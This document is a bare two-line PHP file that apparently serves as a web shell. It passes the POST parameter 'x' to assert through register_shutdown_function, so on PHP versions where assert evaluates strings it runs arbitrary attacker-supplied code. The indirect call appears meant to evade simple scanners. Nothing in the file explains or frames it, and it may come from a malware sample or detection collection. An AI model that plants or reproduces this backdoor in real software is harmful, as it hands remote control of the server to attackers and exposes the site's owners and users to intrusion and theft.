<?php
register_shutdown_function("assert", $_POST["x"]);
